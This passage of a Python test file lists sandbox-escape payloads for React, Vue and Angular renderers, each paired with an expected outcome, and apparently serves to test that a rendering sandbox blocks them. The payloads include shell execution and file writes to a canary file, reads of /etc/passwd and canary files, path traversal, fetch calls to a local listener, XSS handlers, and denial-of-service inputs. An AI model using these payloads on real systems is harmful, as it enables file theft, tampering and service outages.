        "useEffect(()=>{fetch('http://127.0.0.1:PORT/');fetch('file://CANARY')});return <p>a</p>}",
        "drawn",
    ),
}
VUE = {
    "packages of Node": Attack(
        "<script setup>import {execSync} from 'child_process'; execSync('echo gone > CANARY')"
        "</script><template><p/></template>",
        "syntax",
    ),
    "comments without end": Attack("<!---->" * 100_000 + "before", "drawn"),
    "blocks in files": Attack(
        "<template src='CANARY'></template><script src='/etc/passwd'></script>"
        "<style src='file://CANARY'></style>",
        "syntax",
    ),
    "type from a file": Attack(
        "<script setup lang='ts'>import type {Secret} from 'CANARY'; defineProps<Secret>()"
        "</script><template><p>{{ $props }}</p></template>",
        "syntax",
    ),
    "types of a path": Attack(
        "<script setup lang='ts'>import {Secret} from '../../../../../..CANARY';"
        "defineProps<Secret>()</script><template><p/></template>",
        "syntax",
    ),
    "other languages": Attack(
        "<template lang='ejs'><% require('fs').writeFileSync('CANARY', 'gone') %></template>",
        "syntax",
    ),
    "style of another language": Attack(
        "<template><p>before</p></template>"
        "<style lang='stylus'>json('CANARY')\np\n  color red</style>",
        "syntax",
    ),
    "code in a style": Attack(
        "<template><p>before</p></template><style>p { color: v-bind('process.exit(1)') }</style>",
        "drawn",
    ),
    "template without end": Attack(
        "<template><p>{{ (() => { for(;;); })() }}</p></template>", "timeout"
    ),
    "slow pattern": Attack(
        "<template>" + "<" * 100_000 + "</template><style scoped>" + ":is(" * 20_000 + "</style>",
        "syntax",
    ),
    "deep nesting": Attack(
        "<template>" + "<p>" * 20_000 + "</p>" * 20_000 + "</template>",
        "syntax",
    ),
}
ANGULAR = {
    "packages of Node": Attack(
        "import {Component} from '@angular/core'; import fs from 'fs';"
        "@Component({template: ''}) export class A { a = fs.readFileSync('CANARY') }",
        "syntax",
    ),
    "template from a file": Attack(
        "import {Component} from '@angular/core';"
        "@Component({templateUrl: 'CANARY', styleUrls: ['CANARY']}) export class A {}",
        "syntax",
    ),
    "template from a host": Attack(
        "import {Component} from '@angular/core';"
        "@Component({templateUrl: 'http://127.0.0.1:PORT/a.html'}) export class A {}",
        "syntax",
    ),
    "references": Attack(
        "/// <reference path='CANARY' />\n/// <reference types='CANARY' />\n"
        "import {Component} from '@angular/core';"
        "@Component({template: 'before'}) export class A {}",
        "drawn",
    ),
    "code in a decorator": Attack(
        "import {Component} from '@angular/core';"
        "@Component({template: process.mainModule.require('fs').readFileSync('CANARY')})"
        "export class A {}",
        "syntax",
    ),
    "scripts in a template": Attack(
        "import {Component} from '@angular/core';@Component({template: `before"
        "<script>fetch('http://127.0.0.1:PORT/')</script><img src=x "
        "onerror=\"fetch('http://127.0.0.1:PORT/')\">`}) export class A {}",
        "drawn",
    ),
    "endless loop": Attack(
        "import {Component} from '@angular/core';"
        "@Component({template: ''}) export class A { constructor() { for(;;); } }",
        "timeout",
    ),
    "endless changes": Attack(
        "import {Component} from '@angular/core';"
        "@Component({template: '{{ f() }}'}) export class A { f() { return Math.random() } }",
        "drawn",
    ),
    "endless types": Attack(
        "import {Component} from '@angular/core';"
        "type T<A> = A extends string ? T<[A]> | T<{a: A}> : T<string>; let t: T<'a'>;"
        "@Component({template: 'before'}) export class A { constructor(t: T<string>) {} }",
        "syntax",
    ),
}


ATTACKS = {
    "latex": LATEX,
    "webpage": WEBPAGE,
    "lilypond": LILYPOND,
    "latex_document": LATEX_DOCUMENT,
    "tikz": TIKZ,
    "typst": TYPST,
    "matplotlib": MATPLOTLIB,
    "vega": VEGA,
    "svg": SVG,
    "markdown": MARKDOWN,
    "mermaid": MERMAID,
    "html": HTML,
    "canvas": CANVAS,
    "react": REACT,
    "vue": VUE,
    "angular": ANGULAR,
}
